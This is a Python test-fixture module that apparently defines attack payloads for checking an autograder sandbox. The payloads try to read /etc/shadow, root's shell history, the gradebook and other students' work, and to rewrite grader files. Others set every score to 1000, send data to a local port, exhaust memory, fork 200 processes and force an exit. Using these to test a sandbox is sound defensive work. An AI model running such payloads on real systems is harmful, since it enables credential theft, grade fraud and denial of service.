"""The tamper corpus: attacks a submission can carry, as code put before a solution cell's own code.

Each attack records what it managed in ``loot.txt`` in its working folder (a file the sandbox
lets it write), so the tests can check that nothing secret got out. Every loop is bounded.
``{course}``, ``{port}`` and ``{victim}`` are filled in by the tests.
"""

RECORD = """
def _record(*lines):
    with open("loot.txt", "a") as _f:
        _f.write("\\n".join(str(l) for l in lines) + "\\n")
"""

# -- against the sandbox ----------------------------------------------------------------------

READ = (
    RECORD
    + """
import glob, os
for _path in ["{course}/source/cnn_step_by_step/cnn_step_by_step.ipynb", "{course}/gradebook.db",
              "{course}/submitted/{victim}/cnn_step_by_step/cnn_step_by_step.ipynb",
              "{course}/autograded/{victim}/cnn_step_by_step/cnn_step_by_step.ipynb",
              "../../../source/cnn_step_by_step/cnn_step_by_step.ipynb", "../../../gradebook.db",
              "{course}/course/exercises/cnn_step_by_step/conv_forward.py", "../../../course/exercises/__init__.py",
              "cnn_step_by_step.ipynb", os.path.expanduser("~root/.bash_history"), "/etc/shadow"]:
    try:
        with open(_path, "rb") as _f:
            _record("READ " + _path, _f.read().decode("latin-1"))
    except OSError as _e:
        _record(f"DENIED {{_path}}: {{type(_e).__name__}}")
_record("LISTING", sorted(glob.glob("{course}/**", recursive=True))[:50], sorted(os.listdir("/")))
_record("ENV", sorted(os.environ))
"""
)

WRITE = (
    RECORD
    + """
import sqlite3
for _path in ["{course}/gradebook.db", "{course}/source/cnn_step_by_step/cnn_checks.py",
              "{course}/autograded/{victim}/cnn_step_by_step/cnn_checks.py", "cnn_checks.py"]:
    try:
        with open(_path, "a") as _f:
            _f.write("\\n# tampered\\n")
        _record("WROTE " + _path)
    except OSError as _e:
        _record(f"DENIED {{_path}}: {{type(_e).__name__}}")
try:
    _db = sqlite3.connect("file:{course}/gradebook.db?mode=rw", uri=True)
    _db.execute("UPDATE grade SET auto_score = 1000")
    _db.commit()
    _record("WROTE gradebook rows")
except Exception as _e:
    _record(f"DENIED sqlite: {{type(_e).__name__}}")
"""
)

NETWORK = (
    RECORD
    + """
import socket
for _host in ["127.0.0.1", "localhost"]:
    try:
        socket.create_connection((_host, {port}), timeout=3).sendall(b"exfiltrated")
        _record("CONNECTED " + _host)
    except OSError as _e:
        _record(f"DENIED {{_host}}: {{type(_e).__name__}}")
"""
)

MEMORY = (
    RECORD
    + """
_hog = []
try:
    for _ in range(48):  # at most 12 GiB, half of the machine
        _hog.append(bytearray(256 * 2**20))
    _record("ALLOCATED 12 GiB")
except MemoryError:
    _record(f"DENIED memory after {{len(_hog) * 256}} MiB")
del _hog
"""
)

FORK = (
    RECORD
    + """
import os, signal, time
_children = []
try:
    for _ in range(200):
        _pid = os.fork()
        if _pid == 0:
            time.sleep(20)
            os._exit(0)
        _children.append(_pid)
    _record("SPAWNED 200")
except OSError as _e:
    _record(f"DENIED fork after {{len(_children)}}: {{type(_e).__name__}}")
for _pid in _children:
    os.kill(_pid, signal.SIGKILL)
    os.waitpid(_pid, 0)
"""
)

HARD_EXIT = "import os\nos._exit(0)\n"
SYS_EXIT = "import sys\nsys.exit(0)\n"
